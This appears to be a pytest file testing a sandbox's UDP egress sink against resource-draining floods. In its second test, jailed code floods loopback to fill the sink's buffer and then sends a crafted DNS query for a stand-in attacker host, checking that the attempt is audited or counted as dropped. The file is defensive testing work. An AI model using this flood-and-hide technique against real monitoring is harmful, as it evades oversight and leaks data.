"""Attacks on the jail's network sink (cellblock.egress.sink) from the code in the jail.

The jail controls the rate of what it sends, and the warden's reader thread is charged to
the warden, not to the jail's cgroup: a jail flooding UDP (even to its own loopback, which
is never counted) kept the warden's thread reading and parsing as fast as it sent (about
half a core of the warden's CPU from a two-thread flood in a jail, measured). The sink
reads at most ``READS_PER_SECOND`` datagrams a second; what the kernel then drops is
counted.
"""

from __future__ import annotations

import socket
import struct
import time
from types import SimpleNamespace
from typing import Any

import pytest
from test_lifecycle import run_cell

from cellblock.egress import sink as sink_mod
from cellblock.egress.sink import NetSink

from conftest import audit_events, wait_for


def _ipv4_udp(dst: str, port: int, payload: bytes) -> bytes:
    """What a raw UDP socket reads: an IPv4 header, a UDP header, the payload."""
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(payload), 0, 0, 64, 17, 0,
                     socket.inet_aton("10.0.0.2"), socket.inet_aton(dst))
    return ip + struct.pack("!HHHH", 40000, port, 8 + len(payload), 0) + payload


def test_a_flood_is_read_at_a_bounded_rate_not_as_fast_as_the_jail_sends(
        monkeypatch: pytest.MonkeyPatch) -> None:
    budget, sent = 100, 300
    frozen = time.monotonic()
    monkeypatch.setattr(sink_mod, "READS_PER_SECOND", budget, raising=False)
    monkeypatch.setattr(sink_mod, "time", SimpleNamespace(monotonic=lambda: frozen),
                        raising=False)  # the sink's clock: one second, forever
    rx = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    rx.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
    rx.bind(("127.0.0.1", 0))
    tx = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for i in range(sent):  # queued before the sink reads: the jail sends faster than it
        tx.sendto(_ipv4_udp("192.0.2.1", 1000 + i, b"x"), rx.getsockname())
    events: list[dict[str, Any]] = []
    rx.setblocking(False)
    sink = NetSink([rx], lambda event, **fields: events.append({"event": event, **fields}))
    try:
        assert wait_for(lambda: (getattr(sink, "throttled", None) is not None
                        and sink.throttled.is_set()) or sink.seen >= sent, 10), sink.seen
        assert sink.seen == budget, f"read {sink.seen} of {sent} in one second"
    finally:
        sink.close()
        tx.close()
    # closing still audits some of what waited, and counts it
    assert sink.seen > budget
    counts = [e for e in events if e["event"] == "net.denied_count"]
    assert counts and counts[-1]["denied"] == sink.seen, counts



@pytest.mark.jail
@pytest.mark.nonroot
async def test_a_query_hidden_behind_a_loopback_flood_is_audited_or_counted_as_dropped(
        jupyter_env: dict[str, str], no_leftovers: None) -> None:
    """The jail fills the sink's buffer with datagrams to its own loopback (never counted
    as attempts), then sends a query: the kernel may drop the query unread, but then the
    audit says that datagrams were dropped; before, the query could vanish without a trace."""
    from jupyter_client.manager import AsyncKernelManager

    km = AsyncKernelManager(kernel_name="cellblock-agent")
    await km.start_kernel()
    kc = km.client()
    kc.start_channels()
    try:
        await kc.wait_for_ready(timeout=60)
        out = await run_cell(kc, """
import socket, struct
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(20000):
    u.sendto(b"x", ("127.0.0.1", 9))
q = struct.pack("!HHHHHH", 1, 0x0100, 1, 0, 0, 0)
q += b"\\x06hidden\\x08attacker\\x04test\\0\\0\\1\\0\\1"
u.sendto(q, ("192.0.2.53", 53))
print("done")
""", timeout=120)
        assert out["stdout"].strip() == "done", out
    finally:
        kc.stop_channels()
        await km.shutdown_kernel(now=False)
    events = audit_events(km.kernel_id)
    audited = any(e.event == "net.denied" and e.fields.get("host") == "hidden.attacker.test"
                  for e in events)
    counts = [e.fields for e in events if e.event == "net.denied_count"]
    dropped = counts[-1].get("dropped", 0) if counts else 0
    assert audited or dropped > 0, counts
    # 20,000 datagrams at once, where the sink reads 2,000 a second: the kernel dropped some
    assert dropped > 0, counts
